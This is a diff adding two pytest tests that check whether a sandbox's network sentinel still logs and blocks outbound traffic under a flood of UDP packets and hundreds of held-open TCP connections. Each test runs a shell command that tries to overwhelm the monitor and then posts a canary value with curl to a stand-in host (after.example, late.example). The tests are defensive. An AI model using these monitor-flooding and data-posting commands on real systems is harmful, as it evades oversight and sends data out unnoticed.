@@ -190,3 +190,34 @@ async def test_sentinel_off_means_no_events() -> None:
         assert "unreachable" in res.stdout_text
     finally:
         await sb.stop()
+
+
+@pytest.mark.timeout(90)
+async def test_a_flood_of_attempts_cannot_push_a_request_out(sandbox: LocalSandbox) -> None:
+    await sandbox.network_events()
+    flood = ("python3 -c 'import socket\n"
+             "for i in range(3000):\n"
+             "    socket.socket(2, 2).sendto(b\"x\", (\"10.%d.%d.1\" % (i // 250, i % 250), 7))'")
+    await sandbox.shell(flood + "; curl -s -m 3 -d k=FLOOD-CANARY http://after.example/")
+    events = await sandbox.network_events() or []
+    assert sum(e["type"] == "connection" for e in events) == sn.MAX_EVENTS
+    assert any(e.get("proto") == "overflow" and e["count"] >= 1000 for e in events)
+    assert any(e["type"] == "network" and "FLOOD-CANARY" in e["payload"] for e in events)
+
+
+@pytest.mark.timeout(90)
+async def test_held_open_connections_do_not_blind_the_sentinel(sandbox: LocalSandbox) -> None:
+    await sandbox.network_events()
+    hold = ("python3 -c 'import socket, time\n"
+            "socks = []\n"
+            "for i in range(400):\n"
+            "    s = socket.socket(); s.connect((\"198.51.100.%d\" % (i % 200 + 1), 80))\n"
+            "    socks.append(s)\n"
+            "time.sleep(0.5)' & sleep 0.3; "
+            "curl -s -m 3 -d k=HELD-CANARY http://late.example/; wait")
+    res = await sandbox.shell(hold)
+    assert "blocked by the hazmat network sentinel" in res.stdout_text
+    events = await sandbox.network_events() or []
+    assert any(e["type"] == "network" and "HELD-CANARY" in e["payload"] for e in events)
+    res = await sandbox.shell("getent hosts after-the-storm.example")
+    assert res.stdout_text.startswith("198.18.")
